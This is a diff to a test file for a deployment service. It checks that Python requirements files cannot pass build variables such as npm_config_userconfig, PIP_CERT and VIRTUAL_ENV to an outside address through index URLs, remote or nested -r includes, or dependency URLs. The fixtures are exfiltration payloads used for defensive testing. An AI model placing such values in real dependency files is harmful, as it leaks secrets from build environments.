@@ -223,12 +223,22 @@ test('the repository of a git dependency runs no program beside the login either
 
 test('requirements cannot send a variable of the step to another address', async () => {
   const evil = `${stranger.address}\${npm_config_userconfig}\${PIP_CERT}\${PATH}`;
-  for (const requirements of [
-    `--index-url ${evil.replace('npm_config_userconfig', 'VIRTUAL_ENV')}\nsix\n`,
-    `-r ${stranger.address}more.txt\n`,
-  ]) {
-    const { failure } = await deploy({ 'requirements.txt': requirements, 'main.py': '' });
-    assert.match(failure, /uses the variable|from another address/);
+  const leak = `x @ ${stranger.address}\${VIRTUAL_ENV}/x.whl\n`;
+  const more = `${stranger.address}more.txt`;
+  const needsSource = './own\n';
+  const many = Object.fromEntries(Array.from({ length: 40 }, (_, n) => [`r${n}.txt`, `-r r${n + 1}.txt\n`]));
+  const archives: Record<string, string>[] = [
+    { 'requirements.txt': `--index-url ${evil.replace('npm_config_userconfig', 'VIRTUAL_ENV')}\nsix\n` },
+    { 'requirements.txt': `-r ${more}\n` },
+    { 'requirements.txt': `-r            ${more}\n` },
+    { 'requirements.txt': `six==1.17.0 --hash=sha256:aa -r ${more}\n` },
+    { 'requirements.txt': '-r more.list\n', 'more.list': leak },
+    { 'requirements.txt': `${needsSource}-r "more.txt"\n`, 'more.txt': leak },
+    { 'requirements.txt': `${needsSource}-r r0.txt\n`, ...many, 'r40.txt': leak },
+  ];
+  for (const files of archives) {
+    const { failure } = await deploy({ ...files, 'own/pyproject.toml': '[project]\nname = "own"\nversion = "1"\n', 'main.py': '' });
+    assert.match(failure, /uses the variable|from another address|is not in the archive|has an option/, JSON.stringify(files));
   }
   const project = `[project]\nname = "a"\nversion = "1"\ndependencies = ["x @ ${stranger.address}\${VIRTUAL_ENV}/x.whl"]\n`;
   const { failure } = await deploy({ 'pyproject.toml': project, 'main.py': '' });
